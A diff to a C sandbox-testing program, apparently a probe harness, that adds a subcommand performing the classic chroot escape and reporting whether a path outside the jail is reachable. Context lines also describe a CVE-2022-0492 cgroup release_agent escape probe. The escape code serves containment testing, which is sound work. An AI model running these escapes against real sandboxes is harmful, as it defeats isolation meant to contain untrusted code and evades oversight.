@@ -16,7 +16,10 @@
  *   probe release-agent AGENT  CVE-2022-0492: unshare user, mount and cgroup namespaces,
  *                  mount a cgroup v1 hierarchy, set its release_agent to AGENT and empty a
  *                  cgroup to run it; also write /sys/fs/cgroup/memory/release_agent; print
- *                  each step's errno */
+ *                  each step's errno
+ *   probe escape PATH      the classic chroot escape (chroot into a subdirectory while the
+ *                  working directory stays above it, climb with .., chroot there); print
+ *                  "reached" if PATH exists afterwards, else "contained" */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -337,6 +340,14 @@ static void release_agent(const char *agent) {
   printf("{\"unshare\":%d,\"mount\":%d,\"release_agent\":%d,\"sys_release_agent\":%d}\n", unshared, mounted, set, host);
 }
 
+static void escape(const char *path) {
+  mkdir("/.escape", 0700);
+  if (chroot("/.escape") != 0) { printf("chroot: %s\n", strerror(errno)); return; }
+  for (int i = 0; i < 64; i++) chdir("..");
+  chroot(".");
+  printf("%s\n", access(path, F_OK) == 0 ? "reached" : "contained");
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOFBF, 1 << 16);
   if (argc >= 2 && !strcmp(argv[1], "facts")) facts();
@@ -349,9 +360,10 @@ int main(int argc, char **argv) {
   else if (argc >= 3 && !strcmp(argv[1], "snoop")) snoop(atoi(argv[2]));
   else if (argc >= 2 && !strcmp(argv[1], "uring")) uring();
   else if (argc >= 3 && !strcmp(argv[1], "sti")) sti(argv[2]);
+  else if (argc >= 3 && !strcmp(argv[1], "escape")) escape(argv[2]);
   else if (argc >= 5 && !strcmp(argv[1], "exchange")) exchange(argv[2], argv[3], atoi(argv[4]));
   else if (argc >= 3 && !strcmp(argv[1], "release-agent")) release_agent(argv[2]);
-  else { fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|snoop S|uring|sti TEXT|exchange A B S|release-agent AGENT\n"); return 2; }
+  else { fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|snoop S|uring|sti TEXT|exchange A B S|release-agent AGENT|escape PATH\n"); return 2; }
   fflush(stdout);
   return 0;
 }
